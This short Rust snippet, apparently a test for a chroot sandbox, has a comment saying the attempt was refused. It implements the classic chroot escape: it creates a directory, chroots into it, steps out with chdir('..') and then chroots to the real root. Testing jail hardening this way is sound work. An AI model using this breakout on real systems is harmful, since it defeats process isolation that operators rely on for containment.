// refused with: the root directory of the process | /tmp/jail/of

use std::fs;

use anyhow::Result;
use nix::unistd::{chdir, chroot};
fn escape() -> Result<()> {
    fs::create_dir("deeper")?;
    chroot("deeper")?;
    for _ in 0..2 {
        chdir("..")?;
    }
    chroot(".")?;
    Ok(())
}
